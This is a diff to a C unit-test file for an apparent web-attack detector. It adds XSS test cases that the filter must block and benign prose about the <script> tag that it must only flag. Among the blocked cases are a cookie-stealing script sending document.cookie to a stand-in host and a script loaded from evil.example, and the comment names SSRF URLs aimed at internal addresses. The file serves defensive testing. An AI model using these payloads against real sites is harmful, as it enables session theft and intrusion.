@@ -3,7 +3,9 @@
  * (1 OR id IS NOT NULL: true on every row, no literal to compare); URLs
  * whose slashes are all backslashes or absent (http:\\127.0.0.1\admin,
  * http:169.254.169.254), which a gate on '/' kept from the SSRF reading
- * although the WHATWG parser reaches their host. Attacks draw their kind
+ * although the WHATWG parser reaches their host; a <script> whose text
+ * is a few words of prose ("how to use <script> tag in html") is told,
+ * not killed: it calls nothing. Attacks draw their kind
  * as a query value and a form body and reach the kill line; benign rows
  * draw nothing (payload_rt_table.h). */
 #include <stdarg.h>
@@ -21,6 +23,7 @@
 
 #define S PAYLOAD_SQLI
 #define F PAYLOAD_SSRF
+#define X PAYLOAD_XSS
 #define N PAYLOAD_NONE
 
 static void test_or_not_null(void **st)
@@ -71,11 +74,39 @@ static void test_backslash_urls(void **st)
 	rt_run("backslash urls", b, sizeof(b) / sizeof(b[0]));
 }
 
+static void test_script_words(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"<script>alert(1)</script>", X},
+		{"<script>", X},
+		{"<script>/*", X},
+		{"<script> var a = 1", X},
+		{"<script>alert`1`", X},
+		{"<script>a b c</script><script>alert(1)</script>", X},
+		{"<script>tag in html</script><img src=x onerror=alert(1)>", X},
+		{"<script>location.href='//evil.example'</script>", X},
+		{"<script src=//evil.example/x.js></script>", X},
+		{"<script>onerror=alert;throw 1</script>", X},
+		{"<script>new Image().src='//e.example/?'+document.cookie</script>", X},
+	};
+	rt_run_kill("script words", X, t, sizeof(t) / sizeof(t[0]));
+	/* told (50), never killed */
+	static const char *const b[] = {
+		"how to use <script> tag in html",
+		"the <script> element runs code in order",
+		"Where do I put the <script> tag, head or body?",
+		"<script> tag in html</script> explained",
+	};
+	rt_below_kill("script words", b, sizeof(b) / sizeof(b[0]));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_or_not_null),
 		cmocka_unit_test(test_backslash_urls),
+		cmocka_unit_test(test_script_words),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
